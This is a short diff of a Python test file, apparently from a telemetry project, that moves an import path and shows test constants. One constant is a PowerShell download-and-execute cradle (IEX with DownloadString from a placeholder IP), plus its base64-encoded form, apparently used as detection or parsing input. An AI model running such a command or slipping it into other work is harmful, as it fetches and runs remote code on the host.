@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from loglm_bridge.telemetry.canonical.commands import MAX_COMMAND, command, script
+from loglm_bridge.telemetry.canonical.host.commands import MAX_COMMAND, command, script
 
 DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"
 UTF16 = base64.b64encode(DOWNLOAD.encode("utf-16-le")).decode()
